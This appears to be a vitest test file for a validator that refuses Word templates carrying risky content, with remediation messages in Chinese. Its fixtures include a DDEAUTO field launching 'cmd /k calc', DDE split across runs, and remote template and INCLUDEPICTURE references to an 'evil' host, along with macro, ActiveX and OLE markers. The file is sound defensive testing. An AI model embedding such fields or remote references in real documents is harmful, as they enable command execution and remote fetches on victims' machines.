import { describe, expect, test } from 'vitest';
import { faults, sentences } from './filling.js';
import { inside, type LetterheadContent, outside, paragraph, run } from './letterhead-file.js';

const body = paragraph('甲');
const names = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const settings = (content: string): LetterheadContent => ({
  parts: { 'word/settings.xml': `<w:settings ${names}>${content}</w:settings>` },
});
const template = {
  parts: {
    'word/_rels/settings.xml.rels': `<Relationships>${outside('attachedTemplate', 'http://evil/x.dotm')}</Relationships>`,
  },
};

/** A field in runs, its instruction in those pieces. */
function field(...instruction: readonly string[]): string {
  const mark = (kind: string) => `<w:r><w:fldChar w:fldCharType="${kind}"/></w:r>`;
  const pieces = instruction.map((piece) =>
    piece.startsWith('<') ? piece : `<w:r><w:instrText>${piece}</w:instrText></w:r>`,
  );
  return `${mark('begin')}${pieces.join('')}${mark('separate')}${run('1')}${mark('end')}`;
}

describe('what would run, fetch or go along with every document is refused', () => {
  test.each<[string, string, LetterheadContent, string[]]>([
    ['an attached template', body, template, ['attached-template http://evil/x.dotm']],
    [
      'a picture outside the file',
      body,
      { links: outside('image', 'file://share/x.png') },
      ['external file://share/x.png'],
    ],
    [
      'a picture of VML outside the file',
      paragraph(
        '<w:r><w:pict><v:shape><v:imagedata src="http://example.org/x.png"/></v:shape></w:pict></w:r>',
      ),
      {},
      ['external http://example.org/x.png'],
    ],
    ['macros', body, { links: inside('vbaProject', 'vbaProject.bin') }, ['macro word/vbaProject.bin']],
    [
      'macros without a link',
      body,
      { parts: { 'word/vbaProject.bin': new Uint8Array(3) } },
      ['macro word/vbaProject.bin'],
    ],
    [
      'a .docm by another name',
      body,
      {
        parts: {
          '[Content_Types].xml':
            '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
        },
      },
      ['macro .docm'],
    ],
    [
      'an object',
      paragraph('<w:r><w:object><o:OLEObject/></w:object></w:r>'),
      { links: inside('oleObject', 'embeddings/o.bin') },
      ['object word/embeddings/o.bin'],
    ],
    [
      'a file inside the file',
      body,
      { links: inside('package', 'embeddings/x.xlsx') },
      ['object word/embeddings/x.xlsx'],
    ],
    [
      'ActiveX',
      body,
      { parts: { 'word/activeX/activeX1.bin': new Uint8Array(3) } },
      ['control word/activeX/activeX1.bin'],
    ],
    [
      'another document',
      `<w:altChunk r:id="i"/>${body}`,
      { links: inside('aFChunk', 'x.html') },
      ['chunk word/x.html'],
    ],
    ['mail merge', body, settings('<w:mailMerge/>'), ['mail-merge']],
    ['comments', body, { links: inside('comments', 'comments.xml') }, ['comments']],
    [
      'revisions',
      paragraph(`<w:ins w:id="1">${run('乙')}</w:ins>`, `<w:del w:id="2">${run('丙')}</w:del>`),
      {},
      ['revisions'],
    ],
    ['DDEAUTO', paragraph(field('DDEAUTO c:\\x "/k calc"')), {}, ['field DDEAUTO']],
    ['DDE split over runs', paragraph(field(' D', 'D', 'E cmd')), {}, ['field DDE']],
    ['INCLUDEPICTURE', paragraph(field('INCLUDEPICTURE "http://evil/x.png"')), {}, ['field INCLUDEPICTURE']],
    [
      'includetext in a header',
      body,
      { header: paragraph('<w:fldSimple w:instr=" includetext &quot;c:/x&quot;"/>') },
      ['field INCLUDETEXT'],
    ],
    [
      'a keyword that another field makes',
      paragraph(field(field('QUOTE 68 68 69'), ' cmd')),
      {},
      ['field QUOTE', 'field CMD'],
    ],
    ['a field that follows the clock', paragraph(field('DATE \\@ "yyyy"')), {}, ['field DATE']],
    ['a tag in a field', paragraph(field('HYPERLINK "{{网址}}"')), {}, ['tag-in-field HYPERLINK "{{网址}}"']],
  ])('%s', (_, content, more, expected) => {
    expect(faults(content, {}, more)).toEqual(expected.map((each) => `letterhead-refused ${each}`));
  });

  test('everything at once, each with how to take it out', () => {
    expect(
      sentences(
        paragraph(field('DDE x'), '{{名}}'),
        {},
        { links: outside('image', 'http://evil/x.png'), parts: { 'word/vbaProject.bin': new Uint8Array(3) } },
      ),
    ).toEqual([
      '强制性 letterhead-refused template.docx｜文件要用到外面的「http://evil/x.png」，打开时会去取｜图片改为插入到文件里，其他的链接断开后保存',
      '强制性 letterhead-refused template.docx｜文件里有域「DDE」；只能有页码、目录、交叉引用、序号和超链接这几种域｜光标放在域上，按 Ctrl+Shift+F9 转成文字，或删去；日期改用字段',
      '强制性 letterhead-refused template.docx｜文件带有宏（「word/vbaProject.bin」）｜在 Word、WPS 中另存为不含宏的 .docx',
      '强制性 template-field-unknown template.docx 第1段「1{{名}}」｜数据中没有字段「名」｜核对名称，或从模板中删去',
    ]);
  });
});

test.each([
  ['page numbers', paragraph(field('PAGE  \\* MERGEFORMAT'), field(' NUMPAGES ')), {}],
  ['a sum', paragraph(field('=SUM(ABOVE)')), {}],
  [
    'hyperlinks',
    paragraph(field('HYPERLINK "https://example.org"')),
    { links: outside('hyperlink', 'https://example.org') },
  ],
  ['a picture in the file', body, { links: inside('image', 'media/x.png') }],
  [
    'a chart’s workbook',
    body,
    {
      parts: {
        'word/charts/_rels/chart1.xml.rels': `<Relationships>${inside('package', '../embeddings/x.xlsx')}</Relationships>`,
      },
    },
  ],
] satisfies [string, string, LetterheadContent][])('%s may stay', (_, content, more) => {
  expect(faults(content, {}, more)).toEqual([]);
});
